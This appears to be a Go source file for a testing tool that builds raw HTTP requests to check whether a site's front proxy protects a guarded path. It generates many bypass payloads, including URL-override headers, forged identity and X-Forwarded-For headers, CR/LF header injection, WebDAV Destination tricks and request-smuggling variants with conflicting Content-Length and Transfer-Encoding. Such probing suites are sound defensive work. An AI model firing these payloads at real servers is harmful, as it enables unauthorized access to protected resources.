package guardtest

import (
	"fmt"
	"maps"
	"slices"
	"strings"
)

// A message is a raw request to a front.
type message struct {
	text   string
	method string // the one that it asks with
	login  bool   // it has the fields of Login
	rest   bool   // programs disagree about its end, so a front may wait for more
}

// forged is the value of fields that a client writes for a server.
const forged = "guardtest"

// messages returns the attacks on the front of a site, with targets for Guarded, except for its
// destinations.
func (s *Site) messages(targets []string) []message {
	all := slices.Concat(s.roundabouts(), s.forgedFields(), s.forgedPeers(), s.methods(), s.frames())
	for _, target := range targets {
		all = append(all, s.request("GET", target))
	}
	return all
}

// sampled is true if one path for each behavior is enough. Only tests change it.
var sampled = false

// targets returns the request-targets of an attack: all of Paths.
func (s *Site) targets() (all []string) {
	behaviors := map[string]bool{}
	for _, a := range paths(s.Guarded) {
		if !sampled || !behaviors[a.behavior] {
			all = append(all, a.text)
		}
		behaviors[a.behavior] = true
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// request returns a request with more fields.
func (s *Site) request(method, target string, fields ...string) message {
	return message{text: s.head(method, target, append(fields, "Connection: close")...) + "\r\n", method: method}
}

// head returns the head of a request, without the empty line at its end.
func (s *Site) head(method, target string, fields ...string) string {
	return method + " " + target + " HTTP/1.1\r\n" + strings.Join(append([]string{"Host: " + s.Host}, fields...), "\r\n") + "\r\n"
}

// withLogin returns a request for the guarded path with the fields of the login, and with more fields.
func (s *Site) withLogin(fields ...string) message {
	for _, name := range slices.Sorted(maps.Keys(s.Login)) {
		for _, value := range s.Login[name] {
			fields = append(fields, name+": "+value)
		}
	}
	m := s.request("GET", s.Guarded, fields...)
	m.login = true
	return m
}

// roundabouts returns requests for Guarded with an unusual target, Host, version or field.
func (s *Site) roundabouts() []message {
	return []message{
		s.request("GET", s.Guarded), s.request("GET", s.Guarded+"/"), s.request("GET", s.Guarded+"/x"), s.request("GET", s.Guarded+"?x"), s.request("GET", s.Guarded+"#x"), s.request("GET", s.Guarded+"?"+s.Open), s.request("GET", s.Open+"?/.."+s.Guarded),
		s.request("GET", "http://"+s.Host+s.Guarded), s.request("GET", "HTTP://"+s.Host+s.Guarded), s.request("GET", "https://"+s.Host+s.Guarded), s.request("GET", "http://other.example"+s.Guarded),
		s.request("GET", "//"+s.Host+s.Guarded), s.request("GET", "x"+s.Guarded), s.request("GET", strings.TrimPrefix(s.Guarded, "/")),
		s.request("GET", s.Open, "X-Original-URL: "+s.Guarded), s.request("GET", s.Open, "X-Rewrite-URL: "+s.Guarded), s.request("GET", s.Open, "X-Accel-Redirect: "+s.Guarded),
		s.request("GET", s.Guarded, "X-Original-URL: "+s.Open), s.request("GET", s.Guarded, "X-Rewrite-URL: "+s.Open),
		s.request("GET", s.Guarded, "Host: other.example"), s.request("GET", s.Guarded, "Authorization: Basic Og=="), s.request("GET", s.Guarded, "Authorization: Bearer "+forged),
		s.request("GET", s.Guarded, "Upgrade: websocket", "Connection: upgrade"), s.request("GET", s.Guarded, "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "Connection: Upgrade, HTTP2-Settings"),
		{text: "GET " + s.Guarded + "\r\n", method: "GET", rest: true}, {text: "GET " + s.Guarded + " HTTP/1.0\r\n\r\n", method: "GET"}, {text: "GET " + s.Guarded + " HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n", method: "GET"},
		{text: "GET " + s.Guarded + " HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n", method: "GET"}, {text: "GET " + s.Guarded + " HTTP/1.1\r\nConnection: close\r\n\r\n", method: "GET"}, {text: "GET  " + s.Guarded + " HTTP/1.1\r\nHost: " + s.Host + "\r\nConnection: close\r\n\r\n", method: "GET"},
		{text: "GET\t" + s.Guarded + "\tHTTP/1.1\r\nHost: " + s.Host + "\r\nConnection: close\r\n\r\n", method: "GET"},
	}
}

// forgedFields returns requests in which the client forges the field, without a login and with one.
func (s *Site) forgedFields() (all []message) {
	if s.Field == "" {
		return nil
	}
	fields := []string{s.Field + " : " + forged, s.Field + "\t: " + forged, "X: x\r\n " + s.Field + ": " + forged, s.Field + ":\r\n " + forged, "X: x\n" + s.Field + ": " + forged, "X: x\r" + s.Field + ": " + forged, s.Field + ":"}
	for name := range Fields(s.Field) {
		fields = append(fields, name+": "+forged)
	}
	for _, f := range fields {
		all = append(all, s.request("GET", s.Open, f))
		if s.Login != nil {
			all = append(all, s.withLogin(f))
		}
	}
	trailers := "1\r\nx\r\n0\r\n" + s.Field + ": " + forged + "\r\n\r\n"
	chunked := []string{"Transfer-Encoding: chunked", "Trailer: " + s.Field, "Connection: close"}
	all = append(all, message{text: s.head("POST", s.Open, chunked...) + "\r\n" + trailers, method: "POST"})
	if s.Login == nil {
		return all
	}
	for _, f := range []string{s.Field + ": " + s.User + "\r\n" + s.Field + ": " + forged, s.Field + ": " + forged + "\r\n" + s.Field + ": " + s.User, "Connection: " + s.Field, "Connection: x, " + strings.ToLower(s.Field)} {
		all = append(all, s.withLogin(f))
	}
	return all
}

// forgedPeers returns requests with another address of the client.
func (s *Site) forgedPeers() (all []message) {
	const name = "X-Forwarded-For"
	var fields []string
	for _, value := range []string{"127.0.0.1", "::1", "[::1]", "10.0.0.1", "192.168.0.1", "localhost", "127.1", "127.0.0.1:80", `"127.0.0.1"`, "127.0.0.1, 192.0.2.1", "192.0.2.1, 127.0.0.1", "192.0.2.1", "", ",", "unknown", "_hidden", "x", "192.0.2.1,", "192.0.2.1\t", "192.0.2.1;x"} {
		fields = append(fields, name+": "+value)
		for _, other := range []string{"X-Real-IP", "Client-IP", "X-Client-IP", "True-Client-IP", "CF-Connecting-IP", "X-Cluster-Client-IP"} {
			if strings.HasPrefix(value, "127.0.0.1") {
				fields = append(fields, other+": "+value)
			}
		}
	}
	fields = append(fields, "Forwarded: for=127.0.0.1", name+": 127.0.0.1\r\n"+name+": 192.0.2.1", name+": 192.0.2.1\r\n"+name+": 127.0.0.1", name+":\r\n 192.0.2.1", "Connection: "+name)
	for _, f := range fields {
		all = append(all, s.request("GET", s.Open, f), s.request("GET", s.Guarded, f))
	}
	for spelled := range Fields(name) {
		all = append(all, s.request("GET", s.Open, spelled+": 192.0.2.1"), s.request("GET", s.Guarded, spelled+": 127.0.0.1"))
	}
	return all
}

// asked are the methods with which a client asks.
var asked = []string{"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "COPY", "MOVE", "LOCK", "MKCOL", "PROPFIND", "PROPPATCH", "PURGE"}

// methods returns requests with each method, and with the methods in other cases.
func (s *Site) methods() (all []message) {
	for _, method := range asked {
		lower := strings.ToLower(method)
		for _, spelled := range []string{method, lower, method[:1] + lower[1:], lower[:1] + method[1:]} {
			for _, target := range []string{s.Open, s.Guarded} {
				m := s.request(spelled, target, "Content-Length: 0")
				m.rest = method == "CONNECT" // it may open a tunnel
				all = append(all, m)
			}
		}
	}
	return all
}

// destinations returns requests that copy Open to targets (RFC 4918, 10.3).
func (s *Site) destinations(targets []string) (all []message) {
	for _, target := range targets {
		all = append(all, s.request("COPY", s.Open, "Destination: http://"+s.Host+target))
	}
	for _, field := range []string{"Destination: " + s.Guarded, "Destination: //" + s.Host + s.Guarded, "destination: " + s.Guarded, "Destination: http://other.example" + s.Guarded, "Destination: http://" + s.Host + "/x\r\nDestination: " + s.Guarded} {
		all = append(all, s.request("COPY", s.Open, field), s.request("MOVE", s.Open, field))
	}
	return all
}

// frames returns requests with several ends: programs disagree about the place. After the first end
// comes a request for Guarded.
func (s *Site) frames() []message {
	inner := s.head("GET", s.Guarded) + "\r\n"
	chunked := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(inner), inner)
	ended := "0\r\n\r\n" + inner
	post := func(body string, fields ...string) message {
		return message{text: s.head("POST", s.Open, fields...) + "\r\n" + body, method: "POST", rest: true}
	}
	length := func(n int) string { return fmt.Sprint("Content-Length: ", n) }
	start := strings.IndexByte(chunked, '\n') + 1 // after the first size
	all := []message{
		post(inner, "Content-Length: 0", length(len(inner))), post(inner, length(len(inner)), "Content-Length: 0"), post(inner, fmt.Sprintf("Content-Length: 0, %d", len(inner))), post(inner, fmt.Sprintf("Content-Length: %d, 0", len(inner))),
		post(ended, "Transfer-Encoding: chunked", "Transfer-Encoding: identity"), post("0\n\n"+inner, "Transfer-Encoding: chunked"), post("0;\n\r\n"+inner, "Transfer-Encoding: chunked"), post("0\r\nX: x\n\n"+inner, "Transfer-Encoding: chunked"),
		{text: "GET " + s.Open + " HTTP/1.1\nHost: " + s.Host + "\n\n" + inner, method: "GET", rest: true}, {text: s.head("GET", s.Open, "X: x\r\r") + "\r\n" + inner, method: "GET", rest: true}, {text: s.head("GET", s.Open, "X: x\x00") + "\r\n" + inner, method: "GET", rest: true},
		{text: s.head("GET", s.Open, length(len(inner))) + "\r\n" + inner, method: "GET", rest: true}, {text: s.head("GET", s.Open, "Transfer-Encoding: chunked") + "\r\n" + chunked, method: "GET", rest: true}, {text: s.head("GET", s.Open+" HTTP/1.1\r\nX: x") + "\r\n", method: "GET"},
	}
	for _, coding := range []string{
		"Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding: \x0bchunked", "Transfer-Encoding: Chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding: x, chunked", "Transfer-Encoding: chunked, x", "Transfer-Encoding: chunked,",
		`Transfer-Encoding: "chunked"`, "Transfer-Encoding: chunked;x", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", " Transfer-Encoding: chunked", "X: x\r\n Transfer-Encoding: chunked", "X: x\nTransfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked", "Transfer_Encoding: chunked", "Transfer-Encoding",
	} {
		all = append(all, post(ended, length(len(ended)), coding), post(chunked, length(start), coding), post(ended, coding))
	}
	for _, n := range []string{"+%d", "-%d", "0x%x", "0%d", "%d ", " %d\t", "%d\x0b", "%d.0", "1_%d", "%d;x", "\"%d\""} {
		all = append(all, post(inner, "Content-Length: "+fmt.Sprintf(n, len(inner))))
	}
	for _, name := range []string{"Content-Length ", "Content-Length\t", " Content-Length", "Content_Length", "X: x\nContent-Length", "X: x\rContent-Length"} {
		all = append(all, post(inner, fmt.Sprint(name, ": ", len(inner))))
	}
	for _, size := range []string{"0x0", "+0", "-0", "00000000000000000000", "10000000000000000", "0 ", "0\t;x", "0;x=\"\r\n\"", "g", ""} {
		all = append(all, post(size+"\r\n\r\n"+inner, "Transfer-Encoding: chunked"))
	}
	return all
}
